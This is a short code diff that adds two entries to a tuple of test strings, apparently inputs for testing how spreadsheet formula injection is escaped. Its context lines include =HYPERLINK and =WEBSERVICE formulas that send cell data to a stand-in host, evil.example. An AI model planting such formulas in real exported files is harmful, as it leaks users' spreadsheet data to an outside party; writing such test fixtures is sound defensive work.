@@ -19,6 +19,8 @@ NAMES = (
     "\u200b=1+1",
     'a";=1+1',
     "a;=1+1",
+    'a;"=1+1"',
+    "\u00ad=1+1",
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '=WEBSERVICE("http://evil.example")',
     "comma, \"quote\" 'apostrophe'; semicolon",
